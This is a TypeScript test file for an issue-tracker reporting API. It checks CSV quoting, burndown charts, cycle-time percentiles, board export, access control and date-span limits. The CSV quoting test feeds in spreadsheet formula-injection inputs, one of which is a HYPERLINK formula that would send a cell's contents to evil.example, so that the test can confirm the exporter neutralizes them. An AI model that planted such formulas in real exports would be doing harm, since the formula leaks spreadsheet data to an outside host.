import t from 'tap'
import { csvField, toCsv } from '../plugins/report-format.js'
import { percentile } from '../db/reports.js'
import { OTHER_REPO, PRIVATE_REPO, REPO, WS_OLD, P } from './helper.js'
import { buildWithHistory, estimate, issueId, moved, setState } from './history-helper.js'

t.test('CSV quoting', async (t) => {
  t.equal(csvField('plain'), 'plain')
  t.equal(csvField('a,b'), '"a,b"')
  t.equal(csvField('say "hi"'), '"say ""hi"""')
  t.equal(csvField('two\nlines'), '"two\nlines"')
  t.equal(csvField(' edge'), '" edge"')
  t.equal(csvField('=HYPERLINK("x")'), '"\'=HYPERLINK(""x"")"', 'a formula is defused, then quoted')
  t.equal(csvField('-5 apples'), "'-5 apples")
  t.equal(csvField(-5), '-5', 'numbers stay numbers')
  t.equal(csvField(null), '')
  t.equal(csvField(true), 'true')
  // Excel in locales whose list separator is ';' splits an unquoted field there: the second cell would run as a formula.
  t.equal(csvField('Fix;=1+2'), '"Fix;=1+2"', 'a semicolon quotes the field')
  t.equal(csvField('Fix login;=HYPERLINK(CONCAT("https://evil.example/?",A1),"details")'), '"Fix login;=HYPERLINK(CONCAT(""https://evil.example/?"",A1),""details"")"')
  t.equal(csvField('a\t=1+2'), '"a\t=1+2"', 'so does a tab (a tab-separated paste)')
  t.equal(toCsv(['a', 'b'], [[1, 'x,y'], [null, 'z']]), 'a,b\r\n1,"x,y"\r\n,z\r\n')
  t.equal(percentile([1, 2, 4], 50), 2)
  t.equal(percentile([1, 2, 4], 85), 4)
  t.equal(percentile([], 50), null)
  t.equal(percentile([...Array(20).keys()].map((i) => i + 1), 95), 19)
})

t.test('milestone burndown from its start date to its due date, in two zones', async (t) => {
  const clock = { now: Date.parse('2026-03-05T18:00:00Z') }
  const { app, db } = await buildWithHistory(t, { clock: () => clock.now, sprintTickMs: 0 })
  const url = `/p1/repositories/${REPO}/milestones/1/burndown`
  const noStart = await app.as('carol', { url })
  t.equal(noStart.statusCode, 400)
  t.match(noStart.json().message, /no start date/)
  await app.as('bob', { method: 'POST', url: `/p1/repositories/${REPO}/milestones/1/start_date`, payload: { start_date: '2026-03-02T00:00:00Z' } })
  for (const [n, points] of [[1, 2], [2, 3], [3, 5]]) await estimate(db, REPO, n, points, '2026-02-28T00:00:00.000Z')
  const assign = async (n: number, milestone: number | null, at: string) => {
    const id = await issueId(db, REPO, n)
    await db.updateTable('issues').set({ milestone_number: milestone }).where('id', '=', id).execute()
    await db.insertInto('issue_milestones').values({ issue_id: id, repo_id: REPO, milestone_number: milestone, at }).execute()
  }
  await assign(1, 1, '2026-03-01T00:00:00.000Z')
  await assign(2, 1, '2026-03-01T00:00:00.000Z')
  await setState(db, REPO, 1, 'closed', '2026-03-02T10:00:00.000Z')
  await assign(3, 1, '2026-03-03T12:00:00.000Z')
  await assign(2, null, '2026-03-04T12:00:00.000Z')
  await setState(db, REPO, 1, 'open', '2026-03-05T10:00:00.000Z')

  // No due date: the actual line from the start date to today, no ideal line.
  const open = await app.as('carol', { url })
  t.equal(open.statusCode, 200, 'no due date: drawn to today')
  t.same(open.json().days.map((d: { date: string, remaining_points: number }) => [d.date, d.remaining_points]), [['2026-03-02', 3], ['2026-03-03', 8], ['2026-03-04', 5], ['2026-03-05', 7]])
  t.equal(open.json().ideal, null, 'the ideal line needs a due date')
  t.equal(open.json().ends_at, '2026-03-06T00:00:00.000Z', 'to the end of today')
  t.equal((await app.as('carol', { url: `${url}?format=csv` })).body, [
    'date,remaining_points,remaining_issues,closed_points,ideal_points',
    '2026-03-02,3,1,2,', '2026-03-03,8,2,2,', '2026-03-04,5,1,2,', '2026-03-05,7,2,0,', ''
  ].join('\r\n'), 'CSV: the ideal column empty')
  await app.admin({ method: 'PATCH', url: `/admin/repositories/${REPO}/milestones/1`, payload: { due_on: '2026-03-06' } })

  const utc = (await app.as('carol', { url })).json()
  t.equal(utc.time_zone, 'UTC', 'no sprint configuration: UTC')
  t.same(utc.days, [
    { date: '2026-03-02', remaining_points: 3, remaining_issues: 1, closed_points: 2 },
    { date: '2026-03-03', remaining_points: 8, remaining_issues: 2, closed_points: 2 },
    { date: '2026-03-04', remaining_points: 5, remaining_issues: 1, closed_points: 2 },
    { date: '2026-03-05', remaining_points: 7, remaining_issues: 2, closed_points: 0 }
  ], 'a close burns down, a reopen burns up; days after today are absent')
  t.same(utc.ideal.map((i: { remaining_points: number }) => i.remaining_points), [5, 3.75, 2.5, 1.25, 0])
  t.same(utc.scope_changes, [
    { at: '2026-03-03T12:00:00.000Z', repo_id: REPO, issue_number: 3, change: 'added', points: 5 },
    { at: '2026-03-04T12:00:00.000Z', repo_id: REPO, issue_number: 2, change: 'removed', points: 3 }
  ])
  // A workspace's sprint zone applies to its repositories' milestones.
  await app.as('alice', { method: 'PUT', url: `/p2/workspaces/${WS_OLD}/sprint_config`, payload: { length_weeks: 2, starts_on: '2026-03-02', time_zone: 'Asia/Tokyo', carry_over: false } })
  const tokyo = (await app.as('carol', { url })).json()
  t.equal(tokyo.time_zone, 'Asia/Tokyo')
  t.same(tokyo.days.map((d: { date: string, remaining_points: number }) => [d.date, d.remaining_points]), [
    ['2026-03-02', 3], ['2026-03-03', 8], ['2026-03-04', 5], ['2026-03-05', 7], ['2026-03-06', 7]
  ])
  const csv = await app.as('carol', { url: `${url}?format=csv&time_zone=UTC` })
  t.equal(csv.body, [
    'date,remaining_points,remaining_issues,closed_points,ideal_points',
    '2026-03-02,3,1,2,5', '2026-03-03,8,2,2,3.75', '2026-03-04,5,1,2,2.5', '2026-03-05,7,2,0,1.25', '2026-03-06,,,,0', ''
  ].join('\r\n'), 'days to come have empty cells next to the ideal')
  t.match(csv.headers['content-disposition'], /attachment; filename="milestone-1001-1-burndown.csv"/)
  t.equal((await app.as('carol', { url: `${url}?time_zone=Nowhere/Else` })).statusCode, 400)
  t.equal((await app.as('dave', { url })).statusCode, 404)
  t.equal((await app.as('carol', { url: `/p1/repositories/${REPO}/milestones/9/burndown` })).statusCode, 404)
})

t.test('release report burndown counts only readable issues', async (t) => {
  const { app } = await buildWithHistory(t, { sprintTickMs: 0 })
  const day = 86_400_000
  const start = new Date(Date.now() - 2 * day).toISOString()
  const end = new Date(Date.now() + 4 * day).toISOString()
  const created = await app.as('alice', { method: 'POST', url: `/p1/repositories/${REPO}/reports/release`, payload: { title: 'R', start_date: start, desired_end_date: end, repositories: [PRIVATE_REPO] } })
  t.equal(created.statusCode, 200)
  const id = created.json().release_id
  await app.as('alice', { method: 'PUT', url: `/p1/repositories/${REPO}/issues/1/estimate`, payload: { estimate: 3 } })
  await app.as('alice', { method: 'PUT', url: `/p1/repositories/${PRIVATE_REPO}/issues/1/estimate`, payload: { estimate: 8 } })
  const patched = await app.as('alice', { method: 'PATCH', url: `/p1/reports/release/${id}/issues`, payload: { add_issues: [{ repo_id: REPO, issue_number: 1 }, { repo_id: PRIVATE_REPO, issue_number: 1 }], remove_issues: [] } })
  t.equal(patched.statusCode, 200)
  const url = `/p1/reports/release/${id}/burndown`
  const mine = (await app.as('alice', { url })).json()
  t.match(mine.days.at(-1), { remaining_points: 11, remaining_issues: 2 })
  t.equal(mine.scope_changes.length, 2, 'both added after the start')
  const theirs = (await app.as('bob', { url })).json()
  t.match(theirs.days.at(-1), { remaining_points: 3, remaining_issues: 1 })
  t.same([mine.ideal[0].remaining_points, theirs.ideal[0].remaining_points], [11, 3], 'the ideal starts from what each can read, not 0')
  t.notOk(JSON.stringify(theirs).includes(String(PRIVATE_REPO)), 'no trace of the unreadable repository')
  t.equal((await app.as('dave', { url })).statusCode, 404)
  t.equal((await app.as('bob', { url: '/p1/reports/release/ffffffffffffffffffffffff/burndown' })).statusCode, 404)
})

t.test('a release report made after the fact draws its ideal line from the issues it holds', async (t) => {
  const { app, db } = await buildWithHistory(t, { sprintTickMs: 0 })
  const day = 86_400_000
  const start = new Date(Date.now() - 3 * day).toISOString()
  const end = new Date(Date.now() + 3 * day).toISOString()
  await estimate(db, REPO, 1, 5, new Date(Date.now() - 10 * day).toISOString())
  const created = await app.as('alice', { method: 'POST', url: `/p1/repositories/${REPO}/reports/release`, payload: { title: 'Late', start_date: start, desired_end_date: end, repositories: [] } })
  const id = created.json().release_id
  await app.as('alice', { method: 'PUT', url: `/p1/repositories/${REPO}/issues/1/estimate`, payload: { estimate: 1 } })
  await app.as('alice', { method: 'PUT', url: `/p1/repositories/${REPO}/issues/3/estimate`, payload: { estimate: 2 } })
  await app.as('alice', { method: 'PATCH', url: `/p1/reports/release/${id}/issues`, payload: { add_issues: [{ repo_id: REPO, issue_number: 1 }, { repo_id: REPO, issue_number: 3 }], remove_issues: [] } })
  const report = (await app.as('alice', { url: `/p1/reports/release/${id}/burndown` })).json()
  t.equal(report.ideal[0].remaining_points, 7, 'issue 1 at its estimate at the start (5), issue 3 with none then at its estimate now (2)')
  t.equal(report.ideal.at(-1).remaining_points, 0)
  t.match(report.days.at(-1), { remaining_points: 3, remaining_issues: 2 })
})

t.test('cycle time with percentiles, readable repositories only, CSV', async (t) => {
  const { app, db } = await buildWithHistory(t, { sprintTickMs: 0 })
  const base = Math.ceil(Date.now() / 86_400_000 + 1) * 86_400_000
  const at = (days: number) => new Date(base + days * 86_400_000).toISOString()
  for (const [n, days] of [[1, 1], [2, 2], [3, 4]]) {
    await moved(db, OTHER_REPO, n, WS_OLD, 'Doing', at(0))
    await setState(db, OTHER_REPO, n, 'closed', at(days))
  }
  await db.updateTable('issues').set({ title: 'He said "hi", then =1+1' }).where('id', '=', await issueId(db, OTHER_REPO, 2)).execute()
  // Closed without entering the start pipeline (or a later one): left out; closed outside the window: left out.
  await setState(db, REPO, 2, 'closed', at(1))
  await moved(db, REPO, 3, WS_OLD, 'Done', at(0))
  await setState(db, REPO, 3, 'closed', at(40))
  const url = `/p2/workspaces/${WS_OLD}/cycle_time?from=${at(-1)}&to=${at(10)}`
  const bob = (await app.as('bob', { url })).json()
  t.equal(bob.start_pipeline_id, P.doing, 'default: the pipeline after the first')
  t.same(bob.issues.map((i: { issue_number: number, days: number }) => [i.issue_number, i.days]), [[1, 1], [2, 2], [3, 4]])
  t.same([bob.count, bob.p50, bob.p85, bob.p95], [3, 2, 4, 4])
  const carol = (await app.as('carol', { url })).json()
  t.same([carol.count, carol.p50], [0, null], 'carol cannot read the other repository')
  const csv = await app.as('bob', { url: `${url}&format=csv` })
  t.equal(csv.body.split('\r\n')[2], `${OTHER_REPO},2,"He said ""hi"", then =1+1",${at(0)},${at(2)},2`)
  t.equal((await app.as('bob', { url: `${url}&start_pipeline_id=nope` })).statusCode, 400)
  t.equal((await app.as('bob', { url: `/p2/workspaces/${WS_OLD}/cycle_time?from=${at(5)}&to=${at(1)}` })).statusCode, 400)
  t.equal((await app.as('dave', { url })).statusCode, 404)
})

t.test('the board answer as CSV', async (t) => {
  const { app, db } = await buildWithHistory(t)
  await db.updateTable('pipelines').set({ name: 'To "do", now' }).where('id', '=', P.todo).execute()
  await app.as('bob', { method: 'PUT', url: `/p1/repositories/${REPO}/issues/2/estimate`, payload: { estimate: 3 } })
  const csv = await app.as('carol', { url: `/p2/workspaces/${WS_OLD}/repositories/${REPO}/board?format=csv` })
  t.equal(csv.statusCode, 200)
  t.match(csv.headers['content-type'], /^text\/csv/)
  const lines = csv.body.split('\r\n')
  t.equal(lines[0], 'pipeline_id,pipeline_name,index,issue_number,estimate,is_epic,position')
  t.equal(lines[2], `${P.todo},"To ""do"", now",1,2,3,false,`)
  const json = await app.as('carol', { url: `/p1/repositories/${REPO}/board` })
  t.equal(json.headers['content-type'], 'application/json; charset=utf-8', 'JSON stays the default')
  const accepted = await app.as('carol', { url: `/p1/repositories/${REPO}/board`, headers: { accept: 'text/csv' } })
  t.equal(accepted.body, csv.body)
  t.equal((await app.as('dave', { url: `/p1/repositories/${REPO}/board?format=csv` })).statusCode, 404)
})

t.test('a report spans at most five years: release report and milestone start date writes, and every burndown', async (t) => {
  const { app, db } = await buildWithHistory(t, { sprintTickMs: 0 })
  const create = async (start: string, end: string) => await app.as('alice', {
    method: 'POST', url: `/p1/repositories/${REPO}/reports/release`, payload: { title: 'Forever', start_date: start, desired_end_date: end }
  })
  const forever = await create('1826-01-01T00:00:00Z', '2226-01-01T00:00:00Z')
  t.equal(forever.statusCode, 400)
  t.match(forever.json().message, /spans 146097 days: a report covers at most 1830 days/)
  const longest = await create('2024-01-01T00:00:00Z', new Date(Date.parse('2024-01-01T00:00:00Z') + 1830 * 86_400_000).toISOString())
  t.equal(longest.statusCode, 200, 'exactly 1830 days is taken')
  const id = longest.json().release_id as string
  const url = `/p1/reports/release/${id}/burndown`
  const fine = await app.as('alice', { url: `${url}?time_zone=Pacific/Kiritimati` })
  t.equal(fine.statusCode, 200, 'and its burndown answers, in any time zone')
  t.ok(fine.json().ideal.length <= 1832)
  for (const change of [{ desired_end_date: '2226-01-01T00:00:00Z' }, { start_date: '1826-01-01T00:00:00Z' }]) {
    const edited = await app.as('alice', { method: 'PATCH', url: `/p1/reports/release/${id}`, payload: { title: 'Forever', ...change } })
    t.equal(edited.statusCode, 400, JSON.stringify(change))
    t.match(edited.json().message, /at most 1830 days/)
  }

  // A report stored before the limit (or by a restore) is refused at the burndown, quickly, not computed day by day.
  await db.updateTable('release_reports').set({ start_date: '1826-01-01T00:00:00.000Z', desired_end_date: '2226-01-01T00:00:00.000Z' }).where('id', '=', id).execute()
  const started = Date.now()
  const old = await app.as('carol', { url })
  t.equal(old.statusCode, 400)
  t.match(old.json().message, /the burndown spans 146098 days: a report covers at most 1830 days/)
  t.ok(Date.now() - started < 1000, 'answered at once')

  // A milestone: its due date comes from the host, so the start date is checked when set, and the burndown again.
  const milestone = `/p1/repositories/${REPO}/milestones/1`
  await app.admin({ method: 'PATCH', url: `/admin/repositories/${REPO}/milestones/1`, payload: { due_on: '2226-01-01' } })
  const start = await app.as('bob', { method: 'POST', url: `${milestone}/start_date`, payload: { start_date: '1826-01-01T00:00:00Z' } })
  t.equal(start.statusCode, 400)
  t.match(start.json().message, /milestone 1 .*at most 1830 days/)
  await app.admin({ method: 'PATCH', url: `/admin/repositories/${REPO}/milestones/1`, payload: { due_on: null } })
  t.equal((await app.as('bob', { method: 'POST', url: `${milestone}/start_date`, payload: { start_date: '1826-01-01T00:00:00Z' } })).statusCode, 200, 'no due date yet: taken')
  await app.admin({ method: 'PATCH', url: `/admin/repositories/${REPO}/milestones/1`, payload: { due_on: '2226-01-01' } })
  const burndown = await app.as('carol', { url: `${milestone}/burndown` })
  t.equal(burndown.statusCode, 400)
  t.match(burndown.json().message, /at most 1830 days/)
})
